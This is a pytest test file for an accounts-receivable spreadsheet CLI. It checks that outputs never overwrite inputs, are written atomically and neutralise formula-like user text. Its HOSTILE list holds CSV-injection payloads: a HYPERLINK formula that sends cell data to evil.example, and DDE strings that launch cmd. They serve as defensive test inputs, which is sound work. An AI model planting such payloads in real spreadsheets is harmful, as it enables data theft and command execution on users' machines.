"""Output safety of every command that writes: never over an input (by path, link or case),
never half-written, extension matching the format, read-only/locked/missing targets in one
line; and text outputs neutralise formula-like user text (OWASP CSV injection)."""

from __future__ import annotations

import contextlib
import io
import os
import stat
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from xl_ar.cli import main
from xl_ar.core.base.outputs import neutralise, neutralise_lines, safe_output, same_file
from xl_ar.errors import XlArError

AS_OF = "2024-06-30"
LEDGER = (
    "Customer,Invoice,Invoice Date,Due Date,Amount,Paid\n"
    "PT Maju,F-1,2024-01-05,2024-02-04,1500.50,0\n"
    "CV Baru,F-2,2024-05-20,2024-06-19,980.25,0\n"
)
PAYMENTS = "Payment,Date,Amount,Customer\nP1,2024-06-01,980.25,CV Baru\n"


def run(*argv: object) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main([str(a) for a in argv])
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    ledger = tmp_path / "ledger.csv"
    ledger.write_text(LEDGER, encoding="utf-8")
    payments = tmp_path / "payments.csv"
    payments.write_text(PAYMENTS, encoding="utf-8")
    book = tmp_path / "ledger.xlsx"
    pd.read_csv(ledger).to_excel(book, index=False)
    return {"ledger": ledger, "payments": payments, "book": book, "dir": tmp_path}


def leftovers(folder: Path) -> list[str]:
    """Temporary files a failed write might leave behind."""
    return sorted(p.name for p in folder.rglob("*") if ".tmp" in p.name or "staging" in p.name)


def writers(f: dict[str, Path], out: Path) -> dict[str, list[object]]:
    """The writing commands reading ``ledger.xlsx``, with ``out`` as their output file."""
    return {
        "report": ["report", f["book"], "-o", out, "--as-of", AS_OF, "--reports", "aging"],
        "reconcile": ["reconcile", f["book"], f["payments"], "-o", out],
    }


def _refused(code: int, err: str, what: str) -> None:
    assert code == 2, (what, err)
    assert err.count("\n") == 1 and err.startswith("xl-ar "), (what, err)


# --------------------------------------------------------------------------- inputs


def test_an_input_named_as_output_is_refused_and_kept(files, tmp_path):
    customers = tmp_path / "limits.xlsx"
    pd.DataFrame({"Customer": ["PT Maju"], "Credit Limit": [1e6]}).to_excel(customers, index=False)
    before = {p: p.read_bytes() for p in tmp_path.iterdir()}
    book = files["book"]
    for argv, out in [
        (["report", book, "-o", book, "--as-of", AS_OF], book),
        (["report", files["ledger"], "--customers", customers, "-o", customers], customers),
        (["reconcile", book, files["payments"], "-o", book], book),
    ]:
        code, _, err = run(*argv)
        assert code == 2
        assert err == (
            f"xl-ar {argv[0]}: will not overwrite {out}: it is an input of this command; choose "
            "another name for the output\n"
        )
    assert {p: p.read_bytes() for p in tmp_path.iterdir()} == before


def test_report_over_its_csv_ledger_is_refused_by_extension_first(files):
    code, _, err = run("report", files["ledger"], "-o", files["ledger"])
    assert code == 2
    assert err == (
        f"xl-ar report: {files['ledger']}: the report is an Excel workbook (.xlsx); give a file "
        "name ending .xlsx\n"
    )
    assert files["ledger"].read_text(encoding="utf-8") == LEDGER


def test_reconcile_over_either_input_is_refused(files, tmp_path):
    book_payments = tmp_path / "payments.xlsx"
    pd.read_csv(files["payments"]).to_excel(book_payments, index=False)
    before = book_payments.read_bytes(), files["book"].read_bytes()
    for out in (book_payments, files["book"]):
        code, _, err = run("reconcile", files["book"], book_payments, "-o", out)
        _refused(code, err, out.name)
        assert err == (
            f"xl-ar reconcile: will not overwrite {out}: it is an input of this command; choose "
            "another name for the output\n"
        )
    assert (book_payments.read_bytes(), files["book"].read_bytes()) == before


@pytest.mark.skipif(sys.platform == "win32", reason="symlinks need privileges on Windows")
def test_links_and_dotted_paths_to_an_input_are_refused(files, tmp_path):
    book = files["book"]
    before = book.read_bytes()
    sym = tmp_path / "link.xlsx"
    sym.symlink_to(book)
    hard = tmp_path / "hard.xlsx"
    os.link(book, hard)
    (tmp_path / "sub").mkdir()
    dotted = tmp_path / "sub" / ".." / "ledger.xlsx"
    for out in (sym, hard, dotted):
        for name, argv in writers(files, out).items():
            code, _, err = run(*argv)
            _refused(code, err, f"{name} {out.name}")
            assert err.startswith(f"xl-ar {argv[0]}: will not overwrite {out}: it is the same "
                                  f"file as the input {book}")  # fmt: skip
    assert book.read_bytes() == before and sym.is_symlink() and hard.read_bytes() == before


def _case_insensitive(folder: Path) -> bool:
    probe = folder / "CaseProbe.tmp"
    probe.write_text("x")
    try:
        return (folder / "caseprobe.tmp").exists()
    finally:
        probe.unlink()


def test_a_case_variant_of_an_input_is_refused_on_case_insensitive_systems(files):
    if not _case_insensitive(files["dir"]):
        pytest.skip("this file system tells upper from lower case")
    upper = files["dir"] / "LEDGER.XLSX"
    before = files["book"].read_bytes()
    code, _, err = run("report", files["book"], "-o", upper, "--as-of", AS_OF)
    _refused(code, err, "case")
    assert files["book"].read_bytes() == before


def test_same_file_sees_case_only_where_the_folder_ignores_it(tmp_path):
    a = tmp_path / "Ledger.xlsx"
    a.write_bytes(b"x")
    assert same_file(a, tmp_path / "Ledger.xlsx")
    assert same_file(a, tmp_path / "LEDGER.xlsx") == _case_insensitive(tmp_path)


def test_case_differences_are_compared_when_the_probe_says_so(files, monkeypatch):
    import xl_ar.core.base.outputs as outputs

    monkeypatch.setattr(outputs, "_case_insensitive", lambda folder: True)
    upper = files["dir"] / "LEDGER.xlsx"
    assert same_file(files["book"], upper)
    code, _, err = run("report", files["book"], "-o", upper, "--as-of", AS_OF)
    assert code == 2 and err.startswith(f"xl-ar report: will not overwrite {upper}: it is the "
                                        f"same file as the input {files['book']}")  # fmt: skip
    assert not upper.exists()


# --------------------------------------------------------------------------- extensions


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["report", "{ledger}", "-o", "{dir}/r.csv"],
         "{dir}/r.csv: the report is an Excel workbook (.xlsx); give a file name ending .xlsx"),
        (["reconcile", "{ledger}", "{payments}", "-o", "{dir}/r.txt"],
         "{dir}/r.txt: the reconciliation is an Excel workbook (.xlsx); give a file name ending "
         ".xlsx"),
        (["policy", "-o", "{dir}/p.csv"],
         "{dir}/p.csv: the policy sheet is an Excel workbook (.xlsx); give a file name ending "
         ".xlsx"),
        (["addin", "build", "{dir}/a.xlsx"],
         "{dir}/a.xlsx: the add-in is an Excel add-in (.xlam); give a file name ending .xlam"),
    ],
)  # fmt: skip
def test_an_output_extension_must_match_its_format(files, argv, message):
    fill = {k: str(v) for k, v in files.items()}
    code, _, err = run(*[a.format(**fill) for a in argv])
    assert code == 2
    assert err == f"xl-ar {argv[0]}: {message.format(**fill)}\n"
    assert not list(files["dir"].glob("[rpa].*"))


# --------------------------------------------------------------------------- targets


def _make_read_only(path: Path) -> None:
    path.chmod(stat.S_IREAD | stat.S_IEXEC if path.is_dir() else stat.S_IREAD)


@pytest.mark.parametrize("command", ["report", "reconcile", "policy", "addin"])
def test_read_only_folder_missing_folder_and_read_only_file(files, tmp_path, command):
    def argv(out: Path) -> list[object]:
        return {
            "report": ["report", files["ledger"], "-o", out, "--as-of", AS_OF],
            "reconcile": ["reconcile", files["ledger"], files["payments"], "-o", out],
            "policy": ["policy", "-o", out],
            "addin": ["addin", "build", out],
        }[command]

    suffix = ".xlam" if command == "addin" else ".xlsx"
    locked = tmp_path / "locked"
    locked.mkdir()
    _make_read_only(locked)
    try:
        code, _, err = run(*argv(locked / f"out{suffix}"))
        _refused(code, err, command)
        assert err.endswith(f"the folder {locked} is read-only\n")
        assert list(locked.iterdir()) == []
    finally:
        locked.chmod(0o755)
    code, _, err = run(*argv(tmp_path / "nope" / f"out{suffix}"))
    _refused(code, err, command)
    assert err.endswith(f"the folder {tmp_path / 'nope'} does not exist\n")
    old = tmp_path / f"old{suffix}"
    old.write_bytes(b"keep me")
    _make_read_only(old)
    try:
        code, _, err = run(*argv(old))
        _refused(code, err, command)
        assert err.endswith(f"cannot write {old}: the file is read-only\n")
        assert old.read_bytes() == b"keep me"
    finally:
        old.chmod(0o644)


def test_a_locked_target_is_one_line_and_nothing_is_left(files, tmp_path, monkeypatch):
    out = tmp_path / "report.xlsx"
    out.write_bytes(b"open in Excel")

    def locked(src, dst):
        raise PermissionError(13, "Permission denied", str(dst))

    monkeypatch.setattr(os, "replace", locked)
    code, _, err = run("report", files["ledger"], "-o", out, "--as-of", AS_OF, "--reports", "aging")
    assert code == 2
    assert err == (
        f"xl-ar report: cannot replace {out}: it is open in another program (close it, e.g. in "
        "Excel) or read-only\n"
    )
    assert out.read_bytes() == b"open in Excel" and leftovers(tmp_path) == []


# --------------------------------------------------------------------------- failed runs


def test_a_failed_report_leaves_the_old_report_and_no_temporary_file(files, tmp_path, monkeypatch):
    out = tmp_path / "report.xlsx"
    report = ["report", files["ledger"], "-o", out, "--as-of", AS_OF, "--reports", "aging"]
    code, printed, err = run(*report)
    assert code == 0 and err == "" and printed == f"wrote {out}\n"
    assert stat.S_IMODE(out.stat().st_mode) & 0o044  # a normal file, not a private temp file
    old = out.read_bytes()
    import xl_ar.reports.render_file as render

    def fail(*args, **kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(render, "_about_sheet", fail)  # fails after the sheets are written
    code, _, err = run(*report)
    assert code == 2
    assert err == (
        f"xl-ar report: internal error while writing {out}; run with XL_AR_DEBUG=1 for details\n"
    )
    assert out.read_bytes() == old and leftovers(tmp_path) == []


def test_a_failed_reconcile_report_leaves_the_old_one(files, tmp_path, monkeypatch):
    out = tmp_path / "rekon.xlsx"
    assert run("reconcile", files["ledger"], files["payments"], "-o", out)[0] == 0
    old = out.read_bytes()
    import xl_ar.reports.render_file as rf

    monkeypatch.setattr(rf, "_about_sheet", lambda *a, **k: 1 / 0)  # after the result sheet
    code, _, err = run("reconcile", files["ledger"], files["payments"], "-o", out)
    assert code == 2 and "internal error while writing" in err
    assert out.read_bytes() == old and leftovers(tmp_path) == []


def test_safe_output_removes_the_temporary_file_on_any_failure(tmp_path):
    out = tmp_path / "a.xlsx"
    out.write_bytes(b"old")
    with pytest.raises(KeyboardInterrupt), safe_output(out) as temp:
        temp.write_bytes(b"half")
        raise KeyboardInterrupt
    with pytest.raises(XlArError, match=r"^cannot write .*a\.xlsx: the disk is full$"):
        with safe_output(out) as temp:
            raise OSError(28, "No space left on device")
    assert out.read_bytes() == b"old" and sorted(p.name for p in tmp_path.iterdir()) == ["a.xlsx"]


# --------------------------------------------------------------------------- folders


def test_letters_never_overwrite_an_input_and_write_whole_letters(files, tmp_path):
    code, _, err = run("letters", files["ledger"], "--as-of", AS_OF, "--out", files["ledger"])
    _refused(code, err, "letters")
    assert "will not write to" in err and files["ledger"].read_text(encoding="utf-8") == LEDGER
    # a tab-separated ledger named like the letter it would get, inside the output folder
    out = tmp_path / "letters"
    out.mkdir()
    trap = out / "001_PT_Maju_escalation_en.txt"
    trap.write_text(LEDGER.replace(",", "\t"), encoding="utf-8")
    code, _, err = run("letters", trap, "--as-of", AS_OF, "--out", out, "--lang", "en")
    _refused(code, err, "letters trap")
    assert err == (
        f"xl-ar letters: will not overwrite {trap}: it is an input of this command; choose "
        "another name for the output\n"
    )
    assert trap.read_text(encoding="utf-8") == LEDGER.replace(",", "\t")
    code, printed, err = run("letters", files["ledger"], "--as-of", AS_OF, "--out", out,
                             "--lang", "en")  # fmt: skip
    assert code == 0 and printed == f"wrote 2 letters to {out}\n"
    assert leftovers(out) == []


def test_a_letter_that_cannot_be_written_stops_before_any_file(files, tmp_path):
    ledger = tmp_path / "multi.csv"
    ledger.write_text(LEDGER.replace("Paid", "Currency").replace(",0\n", ",IDR\n", 1)
                      .replace("980.25,0", "980.25,USD") + "PT Maju,F-3,2024-01-05,2024-02-04,"
                      "5,USD\n", encoding="utf-8")  # fmt: skip
    out = tmp_path / "letters"
    code, _, err = run("letters", ledger, "--as-of", AS_OF, "--out", out, "--lang", "en")
    assert code == 2 and "several currencies" in err
    assert not out.exists() or list(out.iterdir()) == []


def test_demo_refuses_a_file_as_its_folder_and_keeps_old_output_on_failure(tmp_path, monkeypatch):
    blocker = tmp_path / "out.csv"
    blocker.write_text("mine", encoding="utf-8")
    code, _, err = run("demo", "--out", blocker)
    assert (
        code == 2 and err == f"xl-ar demo: cannot write to {blocker}: it is a file, not a folder\n"
    )
    assert blocker.read_text(encoding="utf-8") == "mine"
    out = tmp_path / "demo"
    out.mkdir()
    (out / "ar_report.xlsx").write_bytes(b"old report")
    import xl_ar.demo as demo

    monkeypatch.setattr(demo, "render_file", lambda *a, **k: 1 / 0)
    code, _, err = run("demo", "--out", out)
    assert code == 2 and err.startswith("xl-ar demo: internal error while writing the demo")
    assert (out / "ar_report.xlsx").read_bytes() == b"old report" and leftovers(out) == []


def test_workbooks_are_staged_and_a_failure_keeps_the_old_ones(tmp_path, monkeypatch):
    import xl_ar.workshop.catalog as catalog

    def build(out_dir, fail_at: int | None = None):
        written = []
        for i, (lang, stem) in enumerate([("id", "a"), ("en", "b")]):
            if i == fail_at:
                raise RuntimeError("render failed")
            path = Path(out_dir) / lang / f"{stem}.xlsx"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(f"new {stem}".encode())
            written.append(path)
        return written

    out = tmp_path / "wb"
    monkeypatch.setattr(catalog, "build_all", build)
    code, printed, err = run("workbooks", "build", "-o", out)
    assert code == 0 and err == "" and printed.splitlines()[-1] == f"2 workbooks written to {out}/"
    assert (out / "en" / "b.xlsx").read_bytes() == b"new b" and leftovers(tmp_path) == []
    (out / "id" / "a.xlsx").write_bytes(b"old a")
    monkeypatch.setattr(catalog, "build_all", lambda d: build(d, fail_at=1))
    code, _, err = run("workbooks", "build", "-o", out)
    assert code == 2 and err.count("\n") == 1
    assert (out / "id" / "a.xlsx").read_bytes() == b"old a" and leftovers(tmp_path) == []
    (tmp_path / "file").write_text("x")
    code, _, err = run("workbooks", "key", "-o", tmp_path / "file")
    assert code == 2 and "it is a file, not a folder" in err


def test_addin_build_that_fails_its_check_keeps_the_old_addin(tmp_path, monkeypatch):
    from xl_ar.addin import build

    out = tmp_path / "xl_ar.xlam"
    out.write_bytes(b"old add-in")
    monkeypatch.setattr(build, "verify_addin", lambda path, **k: ["VBA module X is missing"])
    code, _, err = run("addin", "build", out)
    assert code == 2
    assert err == (
        "xl-ar addin: the built add-in failed its check (1 problem(s)): VBA module X is missing\n"
    )
    assert out.read_bytes() == b"old add-in" and leftovers(tmp_path) == []


# --------------------------------------------------------------------------- CSV injection

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+62 21 555",
    "-2+3+cmd|' /C calc'!A0",
    "\tTab start",
]


def _hostile_ledger(path: Path) -> Path:
    rows = [f'"{n.replace(chr(34), chr(34) * 2)}",F-{i},2024-01-05,2024-02-04,{100 + i},0'
            for i, n in enumerate(HOSTILE)]  # fmt: skip
    path.write_text("Customer,Invoice,Invoice Date,Due Date,Amount,Paid\n" + "\n".join(rows)
                    + "\nPT Biasa,-50,2024-01-05,2024-02-04,-50,0\n", encoding="utf-8")  # fmt: skip
    return path


def test_csv_outputs_neutralise_formula_like_text(tmp_path):
    ledger = _hostile_ledger(tmp_path / "l.csv")
    code, out, _ = run("aging", ledger, "--as-of", AS_OF, "--format", "csv")
    assert code == 2  # the negative amount on an invoice is a data problem: first check
    code, out, err = run("check", ledger, "--format", "csv")
    assert code == 1
    assert pd.read_csv(io.StringIO(out), dtype=str).values.tolist() == [
        ["7", "Amount", "-50", "is negative but not marked as a credit note (add a Type/Jenis "
                             "column)"],
    ]  # fmt: skip
    ledger.write_text(ledger.read_text(encoding="utf-8").replace(",-50,0\n", ",50,0\n"),
                      encoding="utf-8")  # fmt: skip
    code, out, _ = run("aging", ledger, "--as-of", AS_OF, "--format", "csv")
    table = pd.read_csv(io.StringIO(out), keep_default_na=False)
    assert code == 0
    shown = ["'" + n for n in HOSTILE[:4]] + ["Tab start", "PT Biasa", "Total"]  # names trimmed
    assert sorted(table["customer"]) == sorted(shown)
    assert table["Total"].iloc[-1] == 100 + 101 + 102 + 103 + 104 + 50
    code, out, _ = run("worklist", ledger, "--as-of", AS_OF, "--format", "csv", "--lang", "en")
    table = pd.read_csv(io.StringIO(out), keep_default_na=False)
    assert code == 0 and all(
        not c.startswith(("=", "+", "-", "@", "\t")) for c in table["customer"]
    )
    code, out, _ = run("aging", ledger, "--as-of", AS_OF, "--by", "invoice", "--format", "csv")
    invoices = pd.read_csv(io.StringIO(out), keep_default_na=False)
    assert "-50" in invoices.astype(str).values  # the invoice number -50 is a number: kept


def test_letters_and_reconcile_text_neutralise_user_lines(tmp_path):
    ledger = _hostile_ledger(tmp_path / "l.csv")
    ledger.write_text(ledger.read_text(encoding="utf-8").replace(",-50,0\n", ",50,0\n"),
                      encoding="utf-8")  # fmt: skip
    out = tmp_path / "letters"
    code, _, err = run("letters", ledger, "--as-of", AS_OF, "--out", out, "--lang", "en",
                       "--company", "=cmd|' /C calc'!A0")  # fmt: skip
    assert code == 0, err
    for letter in out.glob("*.txt"):
        lines = letter.read_text(encoding="utf-8").splitlines()
        assert lines[0] == "'=cmd|' /C calc'!A0"
        bad = [ln for ln in lines if ln.startswith(("=", "+", "@", "\t"))
               or ln.startswith("-") and set(ln) - {"-", " "}]  # fmt: skip
        assert bad == [], letter.name
    payments = tmp_path / "p.csv"
    payments.write_text("Payment,Date,Amount,Customer\n=P1,2024-06-01,50,PT Biasa\n")
    code, out, err = run("reconcile", ledger, payments)
    assert code == 0, err
    assert "'=P1" in out and "\n=P1" not in out and " =P1" not in out


def test_neutralise_rules():
    assert [neutralise(v) for v in ["=1", "+1 2", "-x", "@a", "\tx", "\rx", "-50", "+62",
                                    "-1.234,50", "1e5", 7, None, ""]] == [
        "'=1", "'+1 2", "'-x", "'@a", "'\tx", "'\rx", "-50", "+62", "-1.234,50", "1e5", 7,
        None, "",
    ]  # fmt: skip
    assert neutralise_lines("a\n=b\n-----  ---\n===\n- item") == "a\n'=b\n-----  ---\n===\n'- item"


def test_the_report_workbook_keeps_hostile_text_as_text(tmp_path):
    ledger = _hostile_ledger(tmp_path / "l.csv")
    ledger.write_text(ledger.read_text(encoding="utf-8").replace(",-50,0\n", ",50,0\n"),
                      encoding="utf-8")  # fmt: skip
    out = tmp_path / "r.xlsx"
    assert run("report", ledger, "-o", out, "--as-of", AS_OF, "--reports", "aging")[0] == 0
    cells = [c for row in openpyxl.load_workbook(out).worksheets[0].iter_rows() for c in row]
    texts = {c.value: c.data_type for c in cells if c.value in HOSTILE}
    assert texts and set(texts.values()) == {"s"}
